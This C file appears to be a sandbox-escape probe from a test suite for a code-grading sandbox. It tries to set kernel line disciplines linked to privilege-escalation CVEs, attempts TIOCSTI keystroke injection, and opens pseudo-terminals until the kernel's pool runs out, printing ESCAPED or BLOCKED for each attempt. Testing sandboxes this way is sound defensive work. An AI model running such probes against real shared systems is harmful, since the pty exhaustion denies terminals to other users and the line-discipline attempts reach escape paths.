/*
 * ptys.c -- ATTACK: abuse the sandbox's pseudo-terminals.
 *
 * Usage: ./ptys MARKER
 * Programs may open ptys (check50 drives programs through them), from the
 * sandbox's own devpts instance. Two ways that could reach past the sandbox:
 *  - a line discipline other than the default (TIOCSETD): n_hdlc and n_gsm
 *    are kernel code with privilege escalations reachable exactly this way
 *    (CVE-2017-2636, CVE-2023-6546). Each attempt prints
 *    "ESCAPED: line discipline <n> set" or "BLOCKED: ldisc <n> <error>".
 *  - taking every pty the kernel has for devpts instances (kernel.pty.max),
 *    so that no other sandbox gets a terminal: it opens masters until the
 *    kernel refuses and prints "PTYS <count> <error>".
 * It also types into its own pty (TIOCSTI): "BLOCKED: TIOCSTI <error>".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

int main(void) {
    int m = posix_openpt(O_RDWR | O_NOCTTY);
    if (m < 0 || grantpt(m) != 0 || unlockpt(m) != 0) {
        printf("NOPTY %s\n", strerror(errno));
        return 0;
    }
    int s = open(ptsname(m), O_RDWR | O_NOCTTY);
    printf("OPENED %s %s\n", ptsname(m), s >= 0 ? "slave" : strerror(errno));
    int ldiscs[] = {13 /* N_HDLC */, 21 /* N_GSM */, 1 /* N_SLIP */, 15 /* N_HCI */};
    for (unsigned i = 0; i < sizeof ldiscs / sizeof *ldiscs; i++) {
        int d = ldiscs[i];
        if (ioctl(s >= 0 ? s : m, TIOCSETD, &d) == 0)
            printf("ESCAPED: line discipline %d set\n", d);
        else
            printf("BLOCKED: ldisc %d %s\n", d, strerror(errno));
    }
    char c = 'x';
    if (ioctl(s >= 0 ? s : m, TIOCSTI, &c) == 0)
        printf("ESCAPED: TIOCSTI worked\n");
    else
        printf("BLOCKED: TIOCSTI %s\n", strerror(errno));
    int count = 1, err = 0;
    for (;;) {
        int more = posix_openpt(O_RDWR | O_NOCTTY);
        if (more < 0) {
            err = errno;
            break;
        }
        if (++count > 100000) break;
    }
    printf("PTYS %d %s\n", count, strerror(err));
    fflush(stdout);
    return 0;
}
